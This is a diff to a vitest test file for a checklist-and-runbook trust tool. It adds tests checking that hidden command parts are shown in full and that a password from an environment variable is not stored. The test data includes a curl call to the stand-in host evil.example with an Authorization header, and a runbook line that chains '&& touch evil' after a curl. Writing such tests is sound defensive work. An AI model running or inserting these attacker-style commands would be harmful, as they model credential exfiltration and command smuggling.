@@ -1,6 +1,8 @@
 import { access, readFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
-import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, beforeEach, describe, expect, it, onTestFinished, vi } from 'vitest';
+import { ownCommands } from '../../src/commands/own-commands.ts';
+import { prepare, type Prepared } from '../../src/commands/prepare.ts';
 import type { LedgerLine } from '../../src/model/events.ts';
 import { gonogo, temporary, type Ran } from '../helpers/gonogo.ts';
 
@@ -24,6 +26,16 @@ const exists = (name: string): Promise<boolean> =>
 const checklist = (command: string): string =>
   `- [ ] Up\n\n  [Down](launch.runbook.md#down)\n\n  \`\`\`yaml gonogo\n  id: up\n  check: { kind: command, run: ${command} }\n  \`\`\`\n`;
 const runbook = (command: string): string => `# Runbook\n\n## Down\n\nStart it. **Changes production.**\n\n\`\`\`sh\n${command}\n\`\`\`\n`;
+
+async function prepareIn(name: string, variables: Readonly<Record<string, string>>): Promise<Prepared> {
+  await put(
+    '.env',
+    Object.entries(variables)
+      .map(([key, value]) => `${key}=${value}\n`)
+      .join(''),
+  );
+  return prepare(join(folder.path, name), { envFile: [join(folder.path, '.env')] }, true);
+}
 
 async function fresh(): Promise<void> {
   await put('launch.md', checklist(`touch ran-${test}`));
@@ -105,5 +117,29 @@ describe('a checklist with commands that nobody trusted', () => {
   it('is not trusted while it has faults: all of them are said', async () => {
     await put('bad.md', '- [ ] x\n\n  ```yaml gonogo\n  chek: 1\n  prio: high\n  ```\n');
     expect(await run('trust', 'bad.md', '--as', 'ada')).toMatchObject({ code: 2, stderr: expect.stringMatching(/bad\.md:4:\d+[\s\S]*bad\.md:5:\d+/) });
+  });
+
+  it('hides nothing of a command behind what looks like a credential', async () => {
+    await put('launch.md', checklist('[curl, -H, "Authorization: x", evil.example]'));
+    await put('launch.runbook.md', runbook('curl -H "Authorization: x" http://127.0.0.1:9 && touch evil'));
+    const { stdout } = await run('trust', 'launch.md', '--show');
+    expect(stdout).toContain('&& touch evil');
+    expect(stdout).toContain('evil.example');
+  });
+
+  it('remembers no password that a variable brings into a command', async () => {
+    await put('launch.md', `---\nvariables:\n  DATABASE_URL: {}\n---\n${checklist('"psql ${DATABASE_URL}"')}`);
+    await put('launch.runbook.md', runbook('systemctl restart api'));
+    const config = join(folder.path, `config-${test}`);
+    const prepared = await prepareIn('launch.md', { DATABASE_URL: 'postgres://app:hunter2hunter2@127.0.0.1:9/app' });
+    vi.stubEnv('XDG_CONFIG_HOME', config);
+    onTestFinished(() => void vi.unstubAllEnvs());
+    const commands = await ownCommands(prepared, 'ada');
+    expect(commands.trust()).toMatchObject({ trusted: false });
+    await commands.remember();
+    expect(await readFile(join(config, 'gonogo', 'trust.json'), 'utf8')).not.toContain('hunter2');
+    // As `gonogo trust` has them, so that what changed is told and nothing else.
+    await put('launch.runbook.md', runbook('systemctl restart web'));
+    expect((await run('trust', 'launch.md', '--show')).stdout).not.toContain('- check of up');
   });
 });
